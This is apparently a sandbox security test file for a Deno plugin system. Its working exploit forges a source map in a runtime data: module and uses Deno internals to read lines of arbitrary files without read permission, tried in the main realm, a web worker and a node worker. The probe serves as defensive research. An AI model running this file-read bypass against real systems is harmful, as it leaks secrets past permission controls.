// Review 131: a source map's "sources" names any file, and Deno reads the line a frame maps to
// (up to 150 characters) to show it, with no read permission and no module in any graph: a
// data: module made at run time carries the map, and `core.destructureError` hands the line
// back. Tried in the main realm, a web Worker and a node:worker_threads Worker.
import { Worker as NodeWorker } from "node:worker_threads";
import { implement, serve } from "@plugbox/plugbox/plugin";
import { Probe } from "./probe.ts";

/** The attack as text, so it runs the same in every realm. */
const READ_LINE = `async function readLine(file, line) {
  const digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  const vlq = (n) => { let v = n << 1, s = ""; do { let d = v & 31; v >>>= 5; if (v > 0) d |= 32; s += digits[d]; } while (v > 0); return s; };
  const map = { version: 3, sources: ["file://" + file], names: [], mappings: "AA" + vlq(line) + "A" };
  const code = 'throw new Error("x");\\n//# sourceMappingURL=data:application/json;base64,' +
    btoa(JSON.stringify(map)) + "\\n// " + Math.random();
  try {
    await import("data:text/javascript;base64," + btoa(code));
    return "no error";
  } catch (error) {
    const internal = Deno[Deno.internal];
    if (!internal?.core) return "no internals";
    return "line " + JSON.stringify(internal.core.destructureError(error).sourceLine ?? null);
  }
}`;

const readLine: (file: string, line: number) => Promise<string> = (0, eval)(`(${READ_LINE})`);

function webWorker(file: string): Promise<string> {
  const source = `${READ_LINE}\nreadLine(${JSON.stringify(file)}, 0).then(postMessage);`;
  return new Promise((resolve) => {
    const worker = new Worker(`data:text/javascript,${encodeURIComponent(source)}`, {
      type: "module",
    });
    worker.onmessage = (event) => (worker.terminate(), resolve(String(event.data)));
    worker.onerror = (event) => (event.preventDefault(), worker.terminate(), resolve("error"));
  });
}

function nodeWorker(file: string): Promise<string> {
  const source = `const { parentPort } = require("node:worker_threads");\n${READ_LINE}\n` +
    `readLine(${JSON.stringify(file)}, 0).then((m) => parentPort.postMessage(m));`;
  return new Promise((resolve) => {
    const worker = new NodeWorker(source, { eval: true });
    worker.on("message", (m) => (worker.terminate(), resolve(String(m))));
    worker.on("error", () => (worker.terminate(), resolve("error")));
  });
}

export async function attack(file = "/tmp/plugbox-hostile/secret.txt"): Promise<string> {
  return [
    `main: ${await readLine(file, 0)}`,
    `web worker: ${await webWorker(file)}`,
    `node worker: ${await nodeWorker(file)}`,
  ].join("; ");
}

if (!Deno.args.some((a) => a.startsWith("--plugbox-nonce="))) {
  console.error(await attack(Deno.args[0]));
} else {
  await serve(implement(Probe, { attempt: (file) => attack(file) }));
}
